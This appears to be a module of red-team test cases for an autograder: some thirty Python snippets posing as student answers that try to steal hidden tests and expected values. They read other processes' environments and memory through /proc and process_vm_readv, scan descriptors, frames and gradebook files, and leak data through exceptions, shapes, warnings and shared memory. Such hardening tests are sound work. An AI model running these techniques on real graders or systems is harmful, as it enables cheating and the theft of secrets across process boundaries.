"""D - stealing answers: hidden tests, expected values and hidden inputs, read where they lie or carried out."""
# ruff: noqa: E501 - the long lines are students' code

from .base import attack

ATTACKS = [
    attack(
        "notebook-beside",
        "Reads every notebook that lies in or above the working folder and prints its tests.",
        "smooth",
        """
        import glob, pathlib
        for folder in (".", "..", "../..", "../../.."):
            for path in glob.glob(folder + "/*.ipynb") + glob.glob(folder + "/*/*.ipynb") + glob.glob(folder + "/source/*"):
                try:
                    print(path, pathlib.Path(path).read_text()[-20000:])
                except (OSError, UnicodeDecodeError):
                    pass
        """,
    ),
    attack(
        "gradebook-query",
        "Opens a gradebook.db found anywhere above, through open files or the environment, and prints the source cells.",
        "register",
        """
        import os, pathlib, sqlite3
        places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, *map(pathlib.Path, os.environ.values())]
        places += [pathlib.Path("/work"), pathlib.Path("/course"), pathlib.Path("/home"), pathlib.Path("/root")]
        for place in places:
            try:
                for path in [*place.glob("gradebook.db"), *place.glob("*/gradebook.db")]:
                    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
                        for row in db.execute("select source from source_cell"):
                            print(row[0])
            except (OSError, ValueError, sqlite3.Error):
                pass
        """,
    ),
    attack(
        "caller-frames",
        "Walks the frames of its caller and returns, and prints, what is called expected there.",
        "smooth",
        """
        import sys

        def smooth(x, width):
            frame, found = sys._getframe(1), None
            while frame is not None:
                print({name: value for name, value in frame.f_locals.items() if name in ("expected", "before", "secret_word")})
                found = frame.f_locals.get("expected") if found is None else found
                frame = frame.f_back
            return found

        def roughness(x):
            return smooth(x, 1)
        """,
    ),
    attack(
        "gc-objects",
        "Goes through all objects of the garbage collector for texts with hidden tests and for graders' plans.",
        "search",
        """
        import gc
        for value in gc.get_objects():
            try:
                parts = value.values() if type(value) is dict else value if type(value) in (list, tuple) else ()
                for part in parts:
                    if type(part) is str and "secret_" in part and len(part) > 100 and "gc.get" not in part:
                        print(part)
                if type(value).__name__ in ("Plan", "PlanCell", "Exercise", "Submission", "Job"):
                    print(repr(value))
            except Exception:
                pass
        """,
    ),
    attack(
        "proc-walk",
        "Reads environment, command line, working folder and memory map of every process that /proc shows.",
        "deal",
        """
        import glob, os
        for process in glob.glob("/proc/[0-9]*"):
            for name in ("environ", "cmdline", "maps", "status", "stack"):
                try:
                    with open(f"{process}/{name}", "rb") as file:
                        print(process, name, file.read(4000))
                except OSError:
                    pass
            for name in ("cwd", "root", "exe"):
                try:
                    inside = os.listdir(f"{process}/{name}")
                    for path in glob.glob(f"{process}/{name}/**/*.ipynb", recursive=True)[:20]:
                        print(open(path).read()[-20000:])
                except OSError:
                    pass
        """,
    ),
    attack(
        "open-descriptors",
        "Goes through the inherited file descriptors and reads whatever they hold, from the start and by path.",
        "smooth",
        """
        import os, stat
        for number in range(3, 256):
            try:
                kind = os.fstat(number).st_mode
                print(number, os.readlink(f"/proc/self/fd/{number}"))
                if stat.S_ISREG(kind):
                    print(os.pread(number, 10**6, 0))
                elif stat.S_ISDIR(kind):
                    for name in os.listdir(number):
                        print(name)
                        if name.endswith((".ipynb", ".db")):
                            print(os.read(os.open(name, os.O_RDONLY, dir_fd=number), 10**6))
            except OSError:
                pass
        """,
    ),
    attack(
        "memory-scan",
        "Searches its own memory for what the process from which it was forked once held: tests and solutions.",
        "search",
        """
        import re
        marks = re.compile(b"CANA" + b"RY-[A-Z-]+[a-z0-9]{6}|secret" + b"_word = .{30}|BEGIN HIDDEN" + b" TESTS")
        hits = set()
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                place, rights = line.split()[:2]
                if "r" not in rights or "[v" in line:
                    continue
                start, end = (int(part, 16) for part in place.split("-"))
                try:
                    memory.seek(start)
                    data = memory.read(min(end - start, 1 << 28))
                except (OSError, ValueError, OverflowError):
                    continue
                hits |= set(marks.findall(data))
        print(hits)
        """,
        cpu_seconds=6.0,
    ),
    attack(
        "parent-memory",
        "Reads the parent's memory with process_vm_readv and through /proc, for the judge's tests.",
        "register",
        """
        import ctypes, os, re
        libc = ctypes.CDLL(None, use_errno=True)

        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        for process in {os.getppid(), 1, *range(max(os.getpid() - 20, 2), os.getpid())}:
            try:
                for line in open(f"/proc/{process}/maps"):
                    if " rw" in line:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        size = min(end - start, 1 << 24)
                        space = ctypes.create_string_buffer(size)
                        ours, theirs = Vector(ctypes.addressof(space), size), Vector(start, size)
                        libc.process_vm_readv(process, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
                        if os.getpid() != process:
                            print(re.findall(rb"CANARY[-A-Za-z0-9]+|secret_\\w+ = .{40}", space.raw))
            except OSError:
                pass
        """,
    ),
    attack(
        "history-of-inputs",
        "Looks at the shell's own history of cells, at linecache and at the compiler's, when it is called.",
        "smooth",
        """
        import linecache

        def smooth(x, width):
            shell = get_ipython()
            print(shell.user_ns.get("In", [])[-3:], shell.history_manager.input_hist_raw[-3:])
            for name, entry in list(linecache.cache.items()):
                if "secret" in "".join(entry[2] if len(entry) > 2 else []):
                    print("".join(entry[2]))
            return np.zeros(3)
        """,
    ),
    attack(
        "exception-message",
        "Raises an exception whose text is the hidden input.",
        "smooth",
        """
        def smooth(x, width):
            raise ValueError("bad table " + repr(x.tolist()))
        """,
    ),
    attack(
        "exception-name",
        "Raises an exception of a class, and of base classes, whose names are the hidden input.",
        "register",
        """
        class Register:
            largest = None
            def add(self, amount):
                word = "E" + "".join(chr(97 + int(digit)) for digit in str(amount) if digit.isdigit())
                raise type(word, (type("Base" + word, (ValueError,), {}),), {"__module__": word})()
        """,
    ),
    attack(
        "class-name-of-result",
        "Returns an object of a class that is called as the hidden input reads.",
        "deal",
        """
        def deal(rng, cards, hand):
            return type("_".join(map(str, cards)) or "none", (), {"__module__": "_".join(cards)})()
        """,
    ),
    attack(
        "shape-of-result",
        "Returns an array whose shape spells digits of the hidden input, since a wrong shape is told.",
        "smooth",
        """
        def smooth(x, width):
            digits = [int(digit) for digit in str(x[0]) if digit.isdigit()]
            return np.broadcast_to(0.0, digits[:10]) if 0 not in digits else np.zeros((*digits, 0))
        """,
        loot=("7, 3, 5, 1, 9", "(7, 3, 5"),
    ),
    attack(
        "factor-of-result",
        "Returns the right result times digits of the hidden input, since a wrong factor is told.",
        "smooth",
        """
        def smooth(x, width):
            right = np.convolve(x, np.ones(width) / width, "valid")
            return right * float("7." + str(x[0])[1:5]) if len(x) == 5 else right
        """,
        loot=("7.351", "7.352"),
    ),
    attack(
        "place-of-result",
        "Is wrong at an index, and in a number of places, that spell the hidden input.",
        "smooth",
        """
        def smooth(x, width):
            right = np.convolve(x, np.ones(width) / width, "valid")
            if width == 1 and len(x) == 5:
                right[int(str(x[0])[1]) :] = 0.5 * right[0]
            return right
        """,
        loot=("index 3 (2 of 5",),
    ),
    attack(
        "printed-in-the-call",
        "Prints the hidden inputs while it is called, on every stream that there is.",
        "register",
        """
        import os, sys
        from IPython.display import HTML, display

        class Register:
            largest = None
            def add(self, amount):
                text = f"amount {amount!r}"
                print(text)
                print(text, file=sys.stderr)
                sys.__stdout__.write(text)
                os.write(1, text.encode())
                os.write(2, text.encode())
                display(HTML(f"<b>{text}</b>"))
                get_ipython().write_payload({"source": "page", "data": {"text/plain": text}})
        """,
    ),
    attack(
        "kept-for-the-next-cell",
        "Keeps the hidden inputs in globals, in the display history and on its functions, for a later answer to print.",
        "smooth",
        """
        import builtins
        builtins.kept = []

        def smooth(x, width):
            builtins.kept.append(x.tolist())
            np.kept, check.kept = builtins.kept, builtins.kept
            get_ipython().user_ns["_kept"] = builtins.kept
            return x
        """,
        also={
            "register": "print(getattr(__import__('builtins'), 'kept', 0), getattr(np, 'kept', 0), globals().get('_kept'))",
            "search": "print(getattr(check, 'kept', 0), globals().get('_kept'))",
        },
    ),
    attack(
        "left-in-scratch",
        "Writes the hidden inputs into every folder that lets it, for the next exercise or the next submission to print.",
        "smooth",
        """
        import os, pathlib, tempfile
        PLACES = (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", tempfile.gettempdir(), os.path.expanduser("~"))
        for place in PLACES:
            for path in pathlib.Path(place).glob("mallory-*"):
                print(path.read_text())

        def smooth(x, width):
            for place in PLACES:
                try:
                    pathlib.Path(place, "mallory-table").write_text(repr(x.tolist()))
                except OSError:
                    pass
            return x
        """,
        also={
            "search": """
            import pathlib
            for place in (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", pathlib.Path.home()):
                for path in pathlib.Path(place).glob("mallory-*"):
                    print(path.read_text())
            """
        },
    ),
    attack(
        "left-in-the-kernel",
        "Leaves the hidden inputs in System V shared memory, a message queue, a key ring and an abstract socket's name.",
        "deal",
        """
        import ctypes, glob, socket
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        KEY = 0x4D414C
        place = libc.shmget(KEY, 4096, 0o1666)
        if place >= 0:
            print(ctypes.string_at(libc.shmat(place, None, 0)))
        for line in open("/proc/net/unix"):
            if "mallory" in line:
                print(line)

        def deal(rng, cards, hand):
            text = ",".join(cards).encode()
            where = libc.shmget(KEY, 4096, 0o1666)
            ctypes.memmove(libc.shmat(where, None, 0), text, len(text))
            global keep
            keep = socket.socket(socket.AF_UNIX)
            keep.bind(b"\\0mallory-" + text)
            libc.syscall(248, b"user", b"mallory", text, len(text), -4)
        """,
        also={
            "search": """
            import ctypes
            libc = ctypes.CDLL(None)
            libc.shmat.restype = ctypes.c_void_p
            where = libc.shmget(0x4D414C, 4096, 0o1666)
            print(ctypes.string_at(libc.shmat(where, None, 0)) if where >= 0 else where)
            print([line for line in open("/proc/net/unix") if "mallory" in line])
            """
        },
    ),
    attack(
        "traceback-method",
        "Raises an exception with notes, a cause and a _render_traceback_ of its own that show the caller's variables.",
        "smooth",
        """
        import sys

        class Told(Exception):
            def _render_traceback_(self, *args):
                return [str(self)]

        def smooth(x, width):
            frame, text = sys._getframe(1), repr(x.tolist())
            while frame is not None:
                text += repr(frame.f_locals.get("secret_word")) + repr(frame.f_locals.get("expected"))
                frame = frame.f_back
            error = Told(text)
            error.add_note(text)
            raise error from KeyError(text)
        """,
    ),
    attack(
        "warning-text",
        "Carries the hidden input out in the text of warnings and of logging, which often pass by unseen.",
        "smooth",
        """
        import logging, sys, warnings

        def smooth(x, width):
            warnings.showwarning = lambda message, *args, **kwargs: print(message)
            warnings.warn(repr(x.tolist()), stacklevel=2)
            logging.getLogger().error(repr(x.tolist()))
            sys.unraisablehook = print
            return np.convolve(x, np.ones(width) / width, "valid")
        """,
    ),
    attack(
        "callback-inspected",
        "Takes the function that it was given apart: globals, closure, constants, source, and prints them.",
        "search",
        """
        import inspect

        def search(f, low, high, steps):
            for owner in (f, getattr(f, "__func__", f), getattr(f, "__wrapped__", f)):
                print(getattr(owner, "__code__", f).co_consts, inspect.getclosurevars(owner))
                print({k: v for k, v in owner.__globals__.items() if "secret" in k})
                try:
                    print(inspect.getsource(owner))
                except OSError:
                    pass
            return f.__globals__.get("secret_root", 0.0)
        """,
    ),
    attack(
        "operand-of-a-callback",
        "Calls the given function with an object whose operators note what they are combined with: the hidden constants.",
        "search",
        """
        class Ear:
            def __sub__(self, other):
                global root
                root = other
                return 1.0

        def search(f, low, high, steps):
            f((low + high) / 2)
            try:
                f(Ear())
            except Exception:
                pass
            raise ValueError(f"the root is {root!r}")
        """,
    ),
    attack(
        "operand-of-a-comparison",
        "Returns an object whose operators note the expected value that the test subtracts, and say that nothing is left.",
        "smooth",
        """
        class Ear:
            def __sub__(self, other):
                print("expected", other)
                return 0.0
            __rsub__ = __add__ = __radd__ = __truediv__ = __rtruediv__ = __sub__
            def __float__(self):
                return 0.0
            def __len__(self):
                return 5

        def smooth(x, width):
            return np.convolve(x, np.ones(width) / width, "valid")

        def roughness(x):
            return 8.0 if len(x) == 4 else Ear()
        """,
    ),
    attack(
        "audit-hook",
        "Adds an audit hook that sees each piece of code before it is compiled and run, and prints it.",
        "deal",
        """
        import sys

        def hook(event, args):
            if event in ("compile", "exec") and "secret" in repr(args[0]):
                print(args[0] if event == "compile" else args[0].co_consts)

        sys.addaudithook(hook)
        """,
    ),
    attack(
        "late-destructor",
        "Waits with printing: in __del__, in atexit, in weakref finalizers and in a thread that outlives the test.",
        "register",
        """
        import atexit, threading, time, weakref

        class Register:
            largest = None
            seen = []
            def add(self, amount):
                self.seen.append(amount)
                weakref.finalize(self, print, "final", list(self.seen))
                threading.Timer(0.05, print, ["later", list(self.seen)]).start()
                return self
            def __del__(self):
                print("gone", self.seen)

        atexit.register(lambda: print("the end", Register.seen))
        """,
    ),
    attack(
        "probe-source",
        "Looks for the text of the tests that is sent to its process, in its caller's frames, and prints and raises it.",
        "register",
        """
        import sys

        class Register:
            largest = None
            def __init__(self):
                frame, text = sys._getframe(), []
                while frame is not None:
                    for name, value in frame.f_locals.items():
                        if name in ("body", "text", "sources", "source", "raw_cell", "cell") or "secret" in name:
                            text.append(f"{name} = {value!r}"[:4000])
                    frame = frame.f_back
                print("\\n".join(text))
                raise LookupError("\\n".join(text))
        """,
    ),
    attack(
        "repository-beside",
        "Reads the course's repository, which lies around the installed course_utils: sources, tests, answers, history.",
        "deal",
        """
        import course_utils, pathlib, sys
        tops = {pathlib.Path(course_utils.__file__).resolve().parents[1], *map(pathlib.Path, sys.path)}
        for top in tops:
            for pattern in ("source/*.py", "source/*/*.ipynb", "tests/*/*.py", "tests/answers/*/*.py", "*/build/*", ".git/config"):
                for path in list(top.glob(pattern))[:60]:
                    try:
                        print(path, path.read_text()[:40_000])
                    except (OSError, UnicodeDecodeError):
                        pass
        """,
    ),
    attack(
        "tests-beside",
        "Makes the judge send the hidden test to its process, keeps its text and tells it by every way that is left.",
        "search",
        """
        import sys

        def search(f, low, high, steps):
            if steps == 3:
                return 0.3125
            frame, text = sys._getframe(), ""
            while frame is not None:
                text += repr(frame.f_locals.get("sources", "")) + repr(frame.f_globals.get("secret_root", ""))
                frame = frame.f_back
            if "secret" in text:
                print(text)
                raise type(text, (ValueError,), {})(text)
            return object()
        """,
    ),
    attack(
        "code-book",
        "Raises exceptions and returns classes that it picks, by digits of the hidden input, from a list in its own text.",
        "register",
        """
        class digit0: pass
        class digit3: pass
        class digit5: pass
        class digit8: pass
        book = {"0": digit0, "3": digit3, "5": digit5, "8": digit8}

        class Register:
            largest = 3.5
            def __init__(self):
                self.kept = []
            def add(self, amount):
                self.kept.append(amount)
                return float(sum(self.kept))
            def __len__(self):
                return len(self.kept)
            def __iter__(self):
                return iter(self.kept)
            def __add__(self, other):
                return book.get(str(self.kept[0])[3], digit0)()
        """,
        loot=("kind digit8", "raised digit8"),
    ),
]
